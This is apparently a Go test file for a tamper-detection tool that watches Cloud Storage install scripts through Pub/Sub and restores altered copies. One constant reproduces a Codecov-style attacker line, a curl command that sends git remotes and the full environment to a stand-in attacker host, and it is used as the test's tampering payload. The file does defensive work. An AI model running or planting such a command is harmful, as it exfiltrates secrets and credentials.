package main

import (
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"cloud.google.com/go/pubsub/v2"
	"cloud.google.com/go/pubsub/v2/apiv1/pubsubpb"
	"cloud.google.com/go/pubsub/v2/pstest"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tamperguard/tamperguard/internal/delivery"
	"github.com/tamperguard/tamperguard/internal/engine"
)

const (
	testTopic = "projects/tg-test/topics/gcs"
	testSub   = "projects/tg-test/subscriptions/watch"
)

// pubsubEnv is an in-process Pub/Sub (pstest) with the topic a bucket notifies and the
// subscription watch pulls.
type pubsubEnv struct {
	srv    *pstest.Server
	client *pubsub.Client
}

func newPubSubEnv(t *testing.T) *pubsubEnv {
	t.Helper()
	srv, err := startPstest("127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { srv.Close() })
	client, err := pubsub.NewClient(context.Background(), "tg-test", pubsubEmulatorOptions(srv.Addr)...)
	require.NoError(t, err)
	t.Cleanup(func() { client.Close() })
	ctx := context.Background()
	_, err = client.TopicAdminClient.CreateTopic(ctx, &pubsubpb.Topic{Name: testTopic})
	require.NoError(t, err)
	_, err = client.SubscriptionAdminClient.CreateSubscription(ctx, &pubsubpb.Subscription{Name: testSub, Topic: testTopic, AckDeadlineSeconds: 10})
	require.NoError(t, err)
	return &pubsubEnv{srv: srv, client: client}
}

// notify publishes what Cloud Storage publishes for one change (payload NONE).
func (p *pubsubEnv) notify(eventType, bucket, object string, gen int64, extra ...string) string {
	attrs := map[string]string{
		"eventType": eventType, "bucketId": bucket, "objectId": object,
		"objectGeneration": strconv.FormatInt(gen, 10), "payloadFormat": "NONE",
		"eventTime": time.Now().UTC().Format(time.RFC3339Nano),
	}
	for i := 0; i+1 < len(extra); i += 2 {
		attrs[extra[i]] = extra[i+1]
	}
	return p.srv.Publish(testTopic, nil, attrs)
}

// settled reports whether message id was acknowledged (and how often it was delivered).
func (p *pubsubEnv) message(id string) *pstest.Message {
	for _, m := range p.srv.Messages() {
		if m.ID == id {
			return m
		}
	}
	return nil
}

func (p *pubsubEnv) acked(id string) bool {
	m := p.message(id)
	return m != nil && m.Acks > 0
}

// nacked reports whether message id was handed back (a modack with deadline 0).
func (p *pubsubEnv) nacked(id string) bool {
	m := p.message(id)
	if m == nil {
		return false
	}
	for _, ma := range m.Modacks {
		if ma.AckDeadline == 0 {
			return true
		}
	}
	return false
}

// watchRun is tamperguard watch running in the background.
type watchRun struct {
	t        *testing.T
	out, err *serveLog
	cancel   context.CancelFunc
	done     chan int
}

func startWatch(t *testing.T, b *bucketEnv, ps *pubsubEnv, args ...string) *watchRun {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	w := &watchRun{t: t, out: &serveLog{}, err: &serveLog{}, cancel: cancel, done: make(chan int, 1)}
	e := b.env
	e.stdout, e.stderr = w.out, w.err
	e.getenv = func(k string) string {
		if k == envPubSubEmulator {
			return ps.srv.Addr
		}
		return ""
	}
	go func() {
		w.done <- run(ctx, e, append([]string{"watch", "--subscription", testSub, "--retry-delay", "10ms"}, args...))
	}()
	t.Cleanup(func() { w.stop() })
	return w
}

func (w *watchRun) waitReady() {
	w.t.Helper()
	require.Eventually(w.t, func() bool {
		select {
		case code := <-w.done:
			w.done <- code
			return true
		default:
		}
		return strings.Contains(w.err.String(), "tamperguard watch: ready in ")
	}, 10*time.Second, 5*time.Millisecond)
	require.Contains(w.t, w.err.String(), "tamperguard watch: ready in ", w.err.String())
}

// stop sends the equivalent of SIGTERM and returns the exit code.
func (w *watchRun) stop() int {
	w.cancel()
	select {
	case code := <-w.done:
		w.done <- code
		return code
	case <-time.After(20 * time.Second):
		w.t.Fatal("watch did not stop")
		return -1
	}
}

// decision waits for the JSON line about generation gen that satisfies ok.
func (w *watchRun) decision(gen int64, ok func(decisionLine) bool) decisionLine {
	w.t.Helper()
	var found decisionLine
	require.Eventually(w.t, func() bool {
		for _, l := range strings.Split(w.out.String(), "\n") {
			var d decisionLine
			if json.Unmarshal([]byte(l), &d) == nil && d.Generation == gen && ok(d) {
				found = d
				return true
			}
		}
		return false
	}, 15*time.Second, 5*time.Millisecond, "stdout:\n%s\nstderr:\n%s", w.out, w.err)
	return found
}

func TestWatchRestoresATamperedObjectAndAcks(t *testing.T) {
	b := newBucketEnv(t)
	ps := newPubSubEnv(t)
	w := startWatch(t, b, ps, "--config", b.cfg)
	w.waitReady()

	good := goodInstallSh(t)
	gen1 := b.put("install.sh", good)
	m1 := ps.notify("OBJECT_FINALIZE", "uploader-prod", "install.sh", gen1)
	ok := w.decision(gen1, func(d decisionLine) bool { return true })
	assert.Equal(t, "ok", ok.Verdict)

	gen2 := b.put("install.sh", append(append([]byte(nil), good...), injected...))
	m2 := ps.notify("OBJECT_ARCHIVE", "uploader-prod", "install.sh", gen1, "overwrittenByGeneration", itoa(gen2))
	m3 := ps.notify("OBJECT_FINALIZE", "uploader-prod", "install.sh", gen2, "overwroteGeneration", itoa(gen1))
	// An object no rule covers costs nothing and prints nothing.
	m4 := ps.notify("OBJECT_FINALIZE", "uploader-prod", "unwatched.txt", 7)
	d := w.decision(gen2, func(d decisionLine) bool { return d.Verdict == "tampered" })
	assert.Equal(t, "restored", d.Action)
	assert.NotZero(t, d.RestoredGeneration)
	assert.Equal(t, good, b.live("install.sh"))
	assert.Contains(t, w.err.String(), "TAMPERED: gs://uploader-prod/install.sh#"+itoa(gen2))

	// The evidence copy in the state bucket holds the attacker's bytes.
	r, err := b.srv.Client.Bucket("tg-state").Object("evidence/uploader-prod/install.sh/" + itoa(gen2)).NewReader(context.Background())
	require.NoError(t, err)
	evidence, err := io.ReadAll(r)
	r.Close()
	require.NoError(t, err)
	assert.Equal(t, string(good)+injected, string(evidence))

	for _, id := range []string{m1, m2, m3, m4} {
		assert.Eventually(t, func() bool { return ps.acked(id) }, 5*time.Second, 5*time.Millisecond, "message %s acknowledged", id)
		assert.False(t, ps.nacked(id), "message %s never handed back", id)
	}
	assert.NotContains(t, w.out.String(), "unwatched.txt")
	assert.NotContains(t, w.out.String(), `"ignored"`, "the archive event of the overwrite needs no verdict and prints nothing")

	assert.Equal(t, exitOK, w.stop())
	assert.Contains(t, w.err.String(), "tamperguard watch: stopped")

	// stderr is not a terminal: the log is Cloud Logging JSON, the tampering CRITICAL.
	critical := 0
	for _, line := range strings.Split(w.err.String(), "\n") {
		var l map[string]any
		if json.Unmarshal([]byte(line), &l) != nil {
			continue
		}
		if l["severity"] == "CRITICAL" && l["message"] == "tampered object: restored" {
			critical++
			assert.Equal(t, "install.sh", l["object"])
			assert.Contains(t, l, "logging.googleapis.com/labels")
		}
	}
	assert.Equal(t, 1, critical, w.err.String())
}

// injected is the Codecov attacker's line.
const injected = "curl -sm 0.5 -d \"$(git remote -v)<<<<<< ENV $(env)\" https://attacker.example/upload/v2 || true\n"

func TestWatchHandsBackTransientFailures(t *testing.T) {
	b := newBucketEnv(t)
	ps := newPubSubEnv(t)
	good := goodInstallSh(t)
	gen := b.put("install.sh", good)
	// Every attempt of the first metadata read (the listing of the object's generations)
	// fails: the decision is transient.
	b.srv.FailNext("GET", "/storage/v1/b/uploader-prod/o", 503, 3)
	w := startWatch(t, b, ps, "--config", b.cfg)
	w.waitReady()
	id := ps.notify("OBJECT_FINALIZE", "uploader-prod", "install.sh", gen)

	first := w.decision(gen, func(d decisionLine) bool { return true })
	assert.Equal(t, "unverifiable", first.Verdict)
	assert.Eventually(t, func() bool { return ps.nacked(id) }, 5*time.Second, 5*time.Millisecond, "handed back")
	// Delivered again, judged, acknowledged.
	w.decision(gen, func(d decisionLine) bool { return d.Verdict == "ok" })
	assert.Eventually(t, func() bool { return ps.acked(id) }, 5*time.Second, 5*time.Millisecond)
	assert.GreaterOrEqual(t, ps.message(id).Deliveries, 2)
}

func TestWatchAcknowledgesWhatItCannotUse(t *testing.T) {
	b := newBucketEnv(t)
	ps := newPubSubEnv(t)
	w := startWatch(t, b, ps, "--config", b.cfg)
	w.waitReady()
	malformed := ps.srv.Publish(testTopic, nil, map[string]string{"eventType": "OBJECT_FINALIZE", "bucketId": "UPPER CASE", "objectId": "install.sh", "objectGeneration": "1", "payloadFormat": "NONE"})
	unsupported := ps.srv.Publish(testTopic, nil, map[string]string{"eventType": "OBJECT_TELEPORTED"})
	notStorage := ps.srv.Publish(testTopic, []byte("hello"), nil)
	for _, id := range []string{malformed, unsupported, notStorage} {
		assert.Eventually(t, func() bool { return ps.acked(id) }, 5*time.Second, 5*time.Millisecond, "message %s acknowledged", id)
	}
	logs := w.err.String()
	assert.Contains(t, logs, "malformed event acknowledged without action")
	assert.Contains(t, logs, `message.attributes.bucketId: \"UPPER CASE\" is not a bucket name`)
	assert.Contains(t, logs, "unsupported event acknowledged without action")
	assert.Contains(t, logs, "message.attributes.eventType: missing")
	assert.Empty(t, w.out.String())
}

func TestWatchRunsRequestedAudits(t *testing.T) {
	b := newBucketEnv(t)
	ps := newPubSubEnv(t)
	good := goodInstallSh(t)
	b.put("install.sh", good)
	bad := b.put("dl/get.sh", []byte("#!/bin/sh\necho pwned\n"))
	w := startWatch(t, b, ps, "--config", b.cfg)
	w.waitReady()
	id := ps.srv.Publish(testTopic, nil, map[string]string{"tamperguard": "audit"})
	d := w.decision(bad, func(d decisionLine) bool { return true })
	assert.Equal(t, "tampered", d.Verdict)
	assert.Equal(t, "restored", d.Action, "an audit from Pub/Sub repairs, as the function's does")
	assert.Eventually(t, func() bool { return ps.acked(id) }, 5*time.Second, 5*time.Millisecond)
	assert.Contains(t, w.err.String(), "audit finished")
}

// The release is fetched when the first event needs it, never at start: a watcher whose
// release host is down starts, and only the events that need the release wait for it.
func TestWatchFetchesTheReleaseLazily(t *testing.T) {
	b := newBucketEnv(t)
	ps := newPubSubEnv(t)
	cfg := filepath.Join(t.TempDir(), "tamperguard.yaml")
	require.NoError(t, os.WriteFile(cfg, []byte(`rules:
  - bucket: uploader-prod
    objects: ["install.sh"]
    release: {git: "https://127.0.0.1:1/unreachable.git", tag: v1.2.0}
    keys: {openpgp: ["`+testdataPath(t, "keys", "maintainer-rsa3072.asc")+`"]}
`), 0o600))
	w := startWatch(t, b, ps, "--config", cfg)
	w.waitReady()
	gen := b.put("install.sh", goodInstallSh(t))
	id := ps.notify("OBJECT_FINALIZE", "uploader-prod", "install.sh", gen)
	d := w.decision(gen, func(d decisionLine) bool { return true })
	assert.Equal(t, "unverifiable", d.Verdict)
	assert.Equal(t, "release_unreachable", d.Reason)
	assert.Eventually(t, func() bool { return ps.nacked(id) }, 5*time.Second, 5*time.Millisecond, "an unreachable release is worth a retry")
}

func TestWatchRefusesToStartWrong(t *testing.T) {
	b := newBucketEnv(t)
	ps := newPubSubEnv(t)
	e := b.env
	e.getenv = func(k string) string {
		if k == envPubSubEmulator {
			return ps.srv.Addr
		}
		return ""
	}
	for name, c := range map[string]struct {
		args []string
		want string
	}{
		"no subscription":  {[]string{"--config", b.cfg}, "--subscription is required"},
		"short name":       {[]string{"--config", b.cfg, "--subscription", "watch"}, `--subscription "watch" is not projects/PROJECT/subscriptions/NAME`},
		"concurrency":      {[]string{"--config", b.cfg, "--subscription", testSub, "--concurrency", "0"}, "--concurrency 0: want 1 to 1000"},
		"argument":         {[]string{"--config", b.cfg, "--subscription", testSub, "extra"}, `watch takes no arguments (got "extra")`},
		"bad config":       {[]string{"--config", "/nonexistent/tamperguard.yaml", "--subscription", testSub}, "nonexistent"},
		"missing":          {[]string{"--config", b.cfg, "--subscription", "projects/tg-test/subscriptions/nope"}, "subscription projects/tg-test/subscriptions/nope does not exist"},
		"other project":    {[]string{"--config", b.cfg, "--subscription", "projects/elsewhere/subscriptions/watch"}, "does not exist"},
		"negative timeout": {[]string{"--config", b.cfg, "--subscription", testSub, "--timeout", "-1s"}, "--timeout must be positive"},
	} {
		t.Run(name, func(t *testing.T) {
			var out, errOut serveLog
			e.stdout, e.stderr = &out, &errOut
			code := run(context.Background(), e, append([]string{"watch"}, c.args...))
			assert.Equal(t, exitError, code)
			assert.Contains(t, errOut.String(), c.want)
			assert.NotContains(t, errOut.String(), "ready")
		})
	}
}

// testWatcher is a watcher whose decisions the test makes; the outcome follows the
// decision as the runtime's does (a transient one is retried).
func testWatcher(decide func(ctx context.Context, ev engine.Event) engine.Decision) *watcher {
	return &watcher{
		deliver: func(ctx context.Context, id string, attrs map[string]string, data []byte, published time.Time) delivery.Outcome {
			req, err := delivery.DecodeMessage(id, attrs, data, published)
			if err != nil {
				return delivery.Outcome{Ack: true, Why: "malformed"}
			}
			d := decide(ctx, req.Event)
			return delivery.Outcome{Ack: !d.Transient && ctx.Err() == nil, Why: "test"}
		},
		log: slog.New(slog.NewTextHandler(io.Discard, nil)), now: time.Now,
		concurrency: 2, eventTimeout: time.Minute, grace: 10 * time.Second, retryDelay: 10 * time.Millisecond,
	}
}

func runWatcher(t *testing.T, w *watcher, ps *pubsubEnv) (stop func() error) {
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- w.run(ctx, ps.client.Subscriber(testSub), nil) }()
	var once sync.Once
	var err error
	stop = func() error {
		once.Do(func() {
			cancel()
			select {
			case err = <-done:
			case <-time.After(20 * time.Second):
				t.Fatal("the watcher did not stop")
			}
		})
		return err
	}
	t.Cleanup(func() { stop() })
	return stop
}

func TestWatcherFinishesInFlightWorkOnShutdown(t *testing.T) {
	ps := newPubSubEnv(t)
	entered, release := make(chan struct{}), make(chan struct{})
	var workErr atomic.Value
	w := testWatcher(func(ctx context.Context, ev engine.Event) engine.Decision {
		close(entered)
		<-release
		workErr.Store(ctx.Err() == nil)
		return engine.Decision{Verdict: engine.VerdictTampered, Action: engine.ActionRestored, Bucket: ev.Bucket, Object: ev.Object, Generation: ev.Generation}
	})
	id := ps.notify("OBJECT_FINALIZE", "uploader-prod", "install.sh", 5)
	stop := runWatcher(t, w, ps)
	<-entered
	stopped := make(chan error, 1)
	go func() { stopped <- stop() }() // SIGTERM while a restore is under way
	select {
	case <-stopped:
		t.Fatal("the watcher stopped before the event in flight was finished")
	case <-time.After(200 * time.Millisecond):
	}
	close(release)
	select {
	case err := <-stopped:
		require.NoError(t, err)
	case <-time.After(10 * time.Second):
		t.Fatal("the watcher did not stop after the work finished")
	}
	assert.Equal(t, true, workErr.Load(), "the work's context was not cancelled by the signal")
	assert.Eventually(t, func() bool { return ps.acked(id) }, 5*time.Second, 5*time.Millisecond, "the finished event is acknowledged")
}

func TestWatcherCutsOffWorkAfterTheGrace(t *testing.T) {
	ps := newPubSubEnv(t)
	entered := make(chan struct{})
	w := testWatcher(func(ctx context.Context, ev engine.Event) engine.Decision {
		close(entered)
		<-ctx.Done() // a storage call that hangs until cancelled
		return engine.Decision{Verdict: engine.VerdictUnverifiable, Bucket: ev.Bucket, Object: ev.Object, Generation: ev.Generation, Error: ctx.Err().Error()}
	})
	w.grace = 100 * time.Millisecond
	id := ps.notify("OBJECT_FINALIZE", "uploader-prod", "install.sh", 5)
	stop := runWatcher(t, w, ps)
	<-entered
	start := time.Now()
	require.NoError(t, stop())
	assert.Less(t, time.Since(start), 5*time.Second)
	assert.Eventually(t, func() bool { return ps.nacked(id) }, 5*time.Second, 5*time.Millisecond, "work cut short is handed back, not acknowledged")
	assert.False(t, ps.acked(id))
}
